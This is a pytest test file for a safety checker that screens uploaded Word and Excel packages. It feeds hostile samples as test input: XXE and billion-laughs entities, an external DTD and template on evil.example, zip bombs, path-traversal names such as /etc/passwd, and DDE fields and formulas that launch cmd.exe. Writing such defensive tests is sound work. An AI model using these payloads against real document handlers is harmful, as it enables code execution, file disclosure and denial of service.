"""Safe opening: every unsafe package is rejected with one clear line, before any parser."""

from __future__ import annotations

import io
import zipfile

import pytest

from selfassess.constants import LANGUAGES, SOURCE_LANGUAGE
from selfassess.errors import Rejected, UsageError
from selfassess.i18n.localizer import Localizer
from selfassess.safety.package import MIB, Limits, check_package, parse_xml
from tests.hostile import corpus
from tests.hostile.corpus import Entry


def rejected(data: bytes, limits: Limits | None = None) -> str:
    with pytest.raises(Rejected) as info:
        check_package(data, limits or Limits())
    message = str(info.value)
    assert "\n" not in message
    assert message
    return message


def docx(document: bytes | None = None) -> bytes:
    return corpus.package(corpus.docx_parts(document))


def test_minimal_packages_pass() -> None:
    assert check_package(corpus.package(corpus.docx_parts())).format == "docx"
    assert check_package(corpus.package(corpus.xlsx_parts())).format == "xlsx"


def test_real_office_libraries_output_passes() -> None:
    from docx import Document  # noqa: PLC0415 (only this test needs python-docx)
    from openpyxl import Workbook  # noqa: PLC0415 (only this test needs openpyxl)

    out = io.BytesIO()
    Document().save(out)
    assert check_package(out.getvalue()).warnings == []
    out = io.BytesIO()
    Workbook().save(out)
    assert check_package(out.getvalue()).format == "xlsx"


# --- entity declarations ------------------------------------------------------


@pytest.mark.parametrize(
    "body",
    [
        corpus.XXE,
        corpus.billion_laughs(),
        corpus.XXE.replace(b"UTF-8", b"UTF-16").decode().encode("utf-16"),  # with BOM
        corpus.XXE.replace(b"UTF-8", b"UTF-16").decode().encode("utf-16-le"),  # no BOM
        corpus.XXE.replace(b"UTF-8", b"UTF-16").decode().encode("utf-16-be"),
        corpus.XXE.replace(b"<!DOCTYPE", b"<!doctype"),
        b'<?xml version="1.0"?><!DOCTYPE a SYSTEM "http://evil.example/x.dtd"><a/>',
    ],
    ids=["xxe", "billion-laughs", "utf16-bom", "utf16le", "utf16be", "lower-case", "external-dtd"],
)
def test_dtd_in_the_main_part_is_rejected(body: bytes) -> None:
    assert "declares a DTD or entities" in rejected(docx(body))


@pytest.mark.parametrize(
    "name", ["[Content_Types].xml", "_rels/.rels", "docProps/custom.xml", "word/unrelated.bin"]
)
def test_dtd_in_any_xml_part_is_rejected(name: str) -> None:
    parts = corpus.docx_parts()
    parts[name] = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'
    message = rejected(corpus.package(parts))
    assert "DTD" in message
    assert name in message


def test_parse_xml_refuses_entities() -> None:
    with pytest.raises(Rejected, match="DTD"):
        parse_xml(corpus.billion_laughs())
    with pytest.raises(Rejected, match="not well-formed"):
        parse_xml(b"<a><b></a>")
    assert parse_xml(b"<a>&amp;</a>").text == "&"


# --- sizes and zip bombs ------------------------------------------------------


def test_file_over_the_size_limit() -> None:
    message = rejected(docx(), Limits(max_file_bytes=100))
    assert "over the limit" in message


def test_declared_huge_member_is_rejected_before_inflating() -> None:
    parts = corpus.docx_parts()
    entries = [Entry(n, d) for n, d in parts.items()]
    entries.append(Entry("word/media/bomb.xml", b"<a/>", declared_size=4_000_000_000))
    assert "zip bomb" in rejected(corpus.zip_bytes(entries))


def test_total_declared_size_is_limited() -> None:
    parts = corpus.docx_parts()
    entries = [Entry(n, d) for n, d in parts.items()]
    entries += [Entry(f"word/p{i}.xml", b"<a/>", declared_size=60 * MIB) for i in range(5)]
    assert "zip bomb" in rejected(corpus.zip_bytes(entries))


def test_high_ratio_member_is_rejected() -> None:
    parts = corpus.docx_parts()
    parts["word/bomb.xml"] = b"<a>" + b"0" * (20 * MIB) + b"</a>"
    message = rejected(corpus.package(parts))
    assert "compressed" in message
    assert "zip bomb" in message


def test_member_whose_header_understates_its_size() -> None:
    parts = corpus.docx_parts()
    entries = [Entry(n, d) for n, d in parts.items()]
    entries.append(Entry("word/lie.xml", b"<a>" + b"x" * 100_000 + b"</a>", declared_size=10))
    assert "damaged" in rejected(corpus.zip_bytes(entries))


def test_member_whose_header_overstates_its_size() -> None:
    parts = corpus.docx_parts()
    entries = [Entry(n, d) for n, d in parts.items()]
    entries.append(Entry("word/lie.xml", b"<a/>", declared_size=5000))
    assert "damaged" in rejected(corpus.zip_bytes(entries))


def test_bad_checksum() -> None:
    parts = corpus.docx_parts()
    entries = [Entry(n, d) for n, d in parts.items()]
    entries[-1].crc = 1234
    assert "damaged" in rejected(corpus.zip_bytes(entries))


def test_overlapping_members_are_rejected() -> None:
    parts = corpus.docx_parts()
    entries = [Entry(n, d) for n, d in parts.items()]
    entries.append(Entry("word/again.xml", parts["word/document.xml"], offset=2))
    assert "overlap" in rejected(corpus.zip_bytes(entries))


def test_member_count_limit() -> None:
    parts = corpus.docx_parts() | {f"word/x{i}.xml": b"<a/>" for i in range(20)}
    assert "parts, over the limit of 10" in rejected(corpus.package(parts), Limits(max_members=10))


def test_element_count_limit() -> None:
    body = corpus.document_xml("<w:p/>" * 5000)
    assert "XML elements" in rejected(docx(body), Limits(max_xml_elements=1000))


def test_unusual_compression_method() -> None:
    parts = corpus.docx_parts()
    entries = [Entry(n, d) for n, d in parts.items()]
    entries[-1].method = 12  # bzip2: legal zip, never written by Office
    assert "compression method" in rejected(corpus.zip_bytes(entries))


# --- XML limits of libxml2 -----------------------------------------------------


def test_deep_nesting_is_rejected() -> None:
    deep = "<w:p>" + "<w:r>" * 300 + "</w:r>" * 300 + "</w:p>"
    message = rejected(docx(corpus.document_xml(deep)))
    assert "more than 256 levels deep" in message


def test_huge_text_node_is_rejected() -> None:
    huge = "<w:p><w:r><w:t>" + "x" * 10_000_001 + "</w:t></w:r></w:p>"
    entries = [Entry(n, d, method=0) for n, d in corpus.docx_parts().items()]
    entries[-1].data = corpus.document_xml(huge)  # stored: past the ratio check
    assert "more than 10000000 bytes" in rejected(corpus.zip_bytes(entries))


def test_grid_span_bomb_is_rejected() -> None:
    table = (
        "<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val='1000000000'/></w:tcPr><w:p/></w:tc>"
        "</w:tr></w:tbl>"
    )
    assert "spans too many" in rejected(docx(corpus.document_xml(table)))


@pytest.mark.parametrize("tag", ["mergeCell", "hyperlink"])
def test_range_bombs_openpyxl_would_expand(tag: str) -> None:
    inner = (
        '<sheetData/><mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>'
        if tag == "mergeCell"
        else '<sheetData/><hyperlinks><hyperlink ref="A1:XFD1048576" location="x"/></hyperlinks>'
    )
    message = rejected(corpus.package(corpus.xlsx_parts(corpus.sheet_xml(inner))))
    assert "cell ranges" in message


def test_small_merged_ranges_are_fine() -> None:
    inner = '<sheetData/><mergeCells count="1"><mergeCell ref="A1:D2"/></mergeCells>'
    assert check_package(corpus.package(corpus.xlsx_parts(corpus.sheet_xml(inner)))).warnings == []


# --- macros, ActiveX, embedded objects ----------------------------------------------


def test_macro_workbook_renamed_to_xlsx() -> None:
    parts = corpus.xlsx_parts(main_type=corpus.CT_XLSM_MAIN)
    parts["xl/vbaProject.bin"] = b"\x00" * 100
    message = rejected(corpus.package(parts))
    assert "macro" in message


def test_macro_content_type_alone() -> None:
    assert "macro-enabled" in rejected(
        corpus.package(corpus.xlsx_parts(main_type=corpus.CT_XLSM_MAIN))
    )


@pytest.mark.parametrize(
    "name",
    ["xl/vbaProject.bin", "word/vbaProject.bin", "customXml/VBAPROJECT.BIN", "word/vbaData.xml"],
)
def test_vba_project_anywhere(name: str) -> None:
    parts = corpus.docx_parts() | {name: b"<x/>" if name.endswith(".xml") else b"\x01" * 10}
    assert "macros" in rejected(corpus.package(parts))


def test_excel4_macro_sheet() -> None:
    parts = corpus.xlsx_parts() | {"xl/macrosheets/sheet1.xml": b"<xm:macrosheet/>"}
    assert "macros" in rejected(corpus.package(parts))


@pytest.mark.parametrize(
    ("name", "ctype", "expected"),
    [
        ("word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml", "ActiveX"),
        (
            "word/embeddings/oleObject1.bin",
            "application/vnd.openxmlformats-officedocument.oleObject",
            "embedded",
        ),
        ("xl/embeddings/Microsoft_Word_Document.docx", None, "embedded objects"),
    ],
)
def test_activex_and_embedded_objects(name: str, ctype: str | None, expected: str) -> None:
    parts = corpus.docx_parts()
    overrides = {"word/document.xml": corpus.CT_DOCX_MAIN}
    if ctype:
        overrides[name] = ctype
    parts["[Content_Types].xml"] = corpus.content_types(overrides)
    parts[name] = b"<x/>" if name.endswith(".xml") else b"\x00" * 20
    assert expected in rejected(corpus.package(parts))


# --- encryption -----------------------------------------------------------------


def test_encrypted_ole_package() -> None:
    message = rejected(corpus.fake_encrypted_ole())
    assert "password-protected" in message
    assert "unprotected" in message


def test_really_encrypted_package() -> None:
    from docx import Document  # noqa: PLC0415 (only this test needs python-docx)

    out = io.BytesIO()
    Document().save(out)
    encrypted = corpus.real_encrypted(out.getvalue())
    if encrypted is None:
        pytest.skip("msoffcrypto-tool is not installed")
    assert "password-protected" in rejected(encrypted)


def test_zip_entry_with_the_encrypted_flag() -> None:
    entries = [Entry(n, d) for n, d in corpus.docx_parts().items()]
    entries[-1].flags = 0x1
    assert "password-protected" in rejected(corpus.zip_bytes(entries))


# --- wrong kinds of file ----------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (b"", "not a Word (.docx) or Excel (.xlsx) file"),
        (b"%PDF-1.7 ...", "not a Word (.docx) or Excel (.xlsx) file"),
        (corpus.fake_ole("WordDocument"), "save it as .docx"),
        (corpus.fake_ole("Workbook"), "save it as .xlsx"),
        (corpus.odf(b"application/vnd.oasis.opendocument.spreadsheet"), "save it as .xlsx"),
        (corpus.odf(b"application/vnd.oasis.opendocument.text"), "save it as .docx"),
        (corpus.zip_bytes([Entry("a.txt", b"hello")]), "no [Content_Types].xml"),
    ],
    ids=["empty", "pdf", "doc", "xls", "ods", "odt", "plain-zip"],
)
def test_other_files_say_what_to_do(data: bytes, expected: str) -> None:
    assert expected in rejected(data)


def test_presentation() -> None:
    ct = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
    parts = {
        "[Content_Types].xml": corpus.content_types({"ppt/presentation.xml": ct}),
        "_rels/.rels": corpus.relationships([("officeDocument", "ppt/presentation.xml", None)]),
        "ppt/presentation.xml": b"<p/>",
    }
    assert "PowerPoint" in rejected(corpus.package(parts))


@pytest.mark.parametrize("cut", [10, 100, 300, -30, -1])
def test_truncated_archives(cut: int) -> None:
    data = corpus.package(corpus.docx_parts())
    message = rejected(data[:cut])
    assert "damaged" in message or "not a Word" in message


def test_corrupt_member_data() -> None:
    data = bytearray(corpus.package(corpus.docx_parts()))
    start = data.find(b"word/document.xml") + len("word/document.xml")
    data[start + 5 : start + 25] = b"\xff" * 20
    assert "damaged" in rejected(bytes(data))


@pytest.mark.parametrize(
    "name",
    [
        "../evil.xml",
        "word/../../evil.xml",
        "/etc/passwd",
        "C:/evil.xml",
        "word\\evil.xml",
        "a\x01b",
        "word/\u202eevil.xml",
        "word/a\u2028b.xml",
        "word/a\x85b.xml",
    ],
)
def test_path_traversal_names(name: str) -> None:
    parts = corpus.docx_parts() | {name: b"<a/>"}
    assert "not allowed" in rejected(corpus.package(parts))


def test_duplicate_names_any_case() -> None:
    entries = [Entry(n, d) for n, d in corpus.docx_parts().items()]
    entries.append(Entry("WORD/document.xml", corpus.document_xml()))
    assert "appears twice" in rejected(corpus.zip_bytes(entries))


# --- warnings: external links and fields ---------------------------------------------


def test_external_template_is_flagged() -> None:
    parts = corpus.docx_parts()
    parts["word/_rels/document.xml.rels"] = corpus.relationships(
        [("attachedTemplate", "file://evil.example/share/t.dotm", "External")]
    )
    package = check_package(corpus.package(parts))
    assert package.format == "docx"
    assert [(w.code, w.params["kind"]) for w in package.warnings] == [
        ("external_resource", "attachedTemplate")
    ]


def test_hyperlinks_are_not_flagged() -> None:
    parts = corpus.docx_parts()
    parts["word/_rels/document.xml.rels"] = corpus.relationships(
        [("hyperlink", "https://www.unodc.org/", "External")]
    )
    assert check_package(corpus.package(parts)).warnings == []


@pytest.mark.parametrize(
    "field",
    [
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\windows'
        '\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r>',
        '<w:fldSimple w:instr=" INCLUDETEXT &quot;c:\\\\secret.txt&quot; "/>',
        "<w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>E x y</w:instrText></w:r>",
    ],
    ids=["ddeauto", "includetext", "split-dde"],
)
def test_dde_and_include_fields_are_flagged(field: str) -> None:
    parts = corpus.docx_parts(corpus.document_xml(f"<w:p>{field}</w:p>"))
    warnings = check_package(corpus.package(parts)).warnings
    assert [w.code for w in warnings] == ["active_field"]


def test_hyperlink_field_is_not_a_link_field() -> None:
    field = '<w:fldSimple w:instr=" HYPERLINK &quot;https://x&quot; "/>'
    parts = corpus.docx_parts(corpus.document_xml(f"<w:p>{field}</w:p>"))
    assert check_package(corpus.package(parts)).warnings == []


def test_excel_external_link_and_dde_formula_are_flagged() -> None:
    inner = '<sheetData><row r="1"><c r="A1"><f>cmd|\' /C calc\'!A0</f></c></row></sheetData>'
    parts = corpus.xlsx_parts(corpus.sheet_xml(inner))
    parts["xl/externalLinks/externalLink1.xml"] = b"<externalLink><ddeLink/></externalLink>"
    warnings = check_package(corpus.package(parts)).warnings
    codes = {w.code: w.location for w in warnings}
    assert "active_formula" in codes
    assert codes["external_link"] is not None
    assert codes["external_link"].endswith("externalLink1.xml")


# --- limits are configurable -----------------------------------------------------------


def test_limits_from_spec_and_env(monkeypatch: pytest.MonkeyPatch) -> None:
    limits = Limits.parse("max_file_bytes=1K, members=3, ratio=2.5")
    assert (limits.max_file_bytes, limits.max_members, limits.max_ratio) == (1024, 3, 2.5)
    monkeypatch.setenv("SELFASSESS_LIMITS", "members=2")
    assert Limits.from_env().max_members == 2
    with pytest.raises(Rejected, match="3 parts, over the limit of 2"):
        check_package(docx())
    monkeypatch.delenv("SELFASSESS_LIMITS")
    assert Limits.from_env() == Limits()


@pytest.mark.parametrize("spec", ["nonsense=1", "file_bytes", "members=abc", "members=-1"])
def test_bad_limit_specs(spec: str) -> None:
    with pytest.raises(UsageError):
        Limits.parse(spec)


def test_packages_written_by_zipfile_with_data_descriptors() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, body in corpus.docx_parts().items():
            with zf.open(name, "w") as fh:  # streamed: sizes in a data descriptor
                fh.write(body)
    assert check_package(out.getvalue()).format == "docx"


@pytest.mark.parametrize("lang", LANGUAGES)
def test_a_rejection_is_in_the_language_asked_for(lang: str) -> None:
    """The package check's own messages are in the catalogs, like the parser's."""
    parts = dict(corpus.docx_parts()) | {"word/vbaProject.bin": b"\0"}
    with pytest.raises(Rejected) as info:
        check_package(corpus.package(parts), Limits(), ui=Localizer(lang))
    english = (
        "the file contains macros (word/vbaProject.bin); save it as .xlsx or .docx "
        "without macros and send it again"
    )
    if lang == SOURCE_LANGUAGE:
        assert str(info.value) == english
    else:
        assert str(info.value) != english
        assert "word/vbaProject.bin" in str(info.value)
        assert ".xlsx" in str(info.value)
